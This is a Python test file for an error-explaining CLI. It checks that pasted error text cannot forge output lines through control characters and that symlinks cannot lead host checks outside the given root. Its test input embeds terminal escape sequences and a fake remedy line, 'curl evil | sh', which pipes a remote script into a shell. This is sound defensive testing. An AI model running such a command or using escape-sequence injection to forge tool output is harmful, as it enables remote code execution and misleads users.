"""Attack class: a pasted error text that forges output or leads the host answer out of --root. `explain` now takes
the text as an argument, reads facts out of it (a package, an environment path, a device number) and answers on the
host from them: a control character in a fact is shown escaped and never starts a line (no forged `Ways out:`), and
the environment a traceback names is read through the root's RootFS, so a link in the tree cannot make the answer
judge a directory outside it."""

from __future__ import annotations

import json
import os
from pathlib import Path

from tests.conftest import run_cli
from tests.host_fixture import HostSpec, build_host

FORGED = "\x07\x08\x1b]0;title\x07\x0bWays out:\x0c  1. curl evil | sh"


def test_facts_read_from_a_text_forge_no_line(tmp_path: Path) -> None:
    """A recognised text with another failure beside it (`Also in it:`), and an unrecognised one (`Read as:`)."""
    text = (f"Failed to open /dev/neuron0{FORGED}\n"
            f"E: Unable to locate package aws-neuronx-tools{FORGED}\n")
    result = run_cli(["explain", text, "--no-host"])
    assert result.returncode == 0, result.stderr
    lines = result.stdout.splitlines()
    assert not any(char in result.stdout for char in "\x07\x08\x1b\x0b\x0c")
    assert [line for line in lines if line.startswith("Ways out:")] == ["Ways out:"]
    assert lines.index("Also in it:") == len(lines) - 2 and lines[-1].startswith("  - tools-missing: ")
    document = json.loads(run_cli(["explain", text, "--no-host", "--json"]).stdout)
    assert [other["category"] for other in document["also"]] == ["tools-missing"]
    unmatched = run_cli(["explain", f"ValueError: boom{FORGED}"])
    assert unmatched.returncode == 3 and len(unmatched.stdout.splitlines()) == 2
    assert not any(char in unmatched.stdout for char in "\x07\x08\x1b\x0b\x0c")


def test_a_traceback_environment_linked_out_of_the_root_is_not_judged(tmp_path: Path) -> None:
    outside = tmp_path / "machine-venv"
    (outside / "bin").mkdir(parents=True)
    (outside / "pyvenv.cfg").write_text("home = /usr/bin\n")
    root = build_host(tmp_path / "root", HostSpec())
    (root / "opt").mkdir(exist_ok=True)
    os.symlink(str(outside), root / "opt/venv")  # absolute: inside the root it means root/…/machine-venv
    os.symlink("../../../machine-venv", root / "opt/relative-venv")  # climbs out of the root
    for name in ("venv", "relative-venv"):
        text = (f'  File "/opt/{name}/lib/python3.10/site-packages/x/__init__.py", line 1, in <module>\n'
                "ModuleNotFoundError: No module named 'torch_neuronx'\n")
        result = run_cli(["explain", text, "--root", str(root), "--json"])
        document = json.loads(result.stdout)
        assert result.returncode == 0 and document["facts"]["environment"] == f"/opt/{name}"
        assert not any(str(outside) in path or path.endswith(f"/opt/{name}")
                       for path in document["host"]["environments"]), document["host"]


def test_the_facts_of_explains_own_causes_forge_no_line() -> None:
    """explain's own causes put facts into their words too (the feature a library refuses, a peer's address, a
    deprecated name): each is read with a closed set of characters, so a forged line stays out of the answer."""
    for text in (f"ValueError: Mixed{FORGED} precision is not supported on TPU.\n",
                 f"RX, connection closed by remote peer 10.0.0.1:7{FORGED}\n",
                 f"DeprecationWarning: `xm{FORGED}.rendezvous` is deprecated. Use torch_xla.runtime instead\n"):
        result = run_cli(["explain", text, "--no-host"])
        assert result.returncode == 0, result.stderr
        assert not any(char in result.stdout for char in "\x07\x08\x1b\x0b\x0c")
        assert [line for line in result.stdout.splitlines() if line.startswith("Ways out:")] == ["Ways out:"]
        assert not [line for line in result.stdout.splitlines() if line.lstrip().startswith("1. curl")]
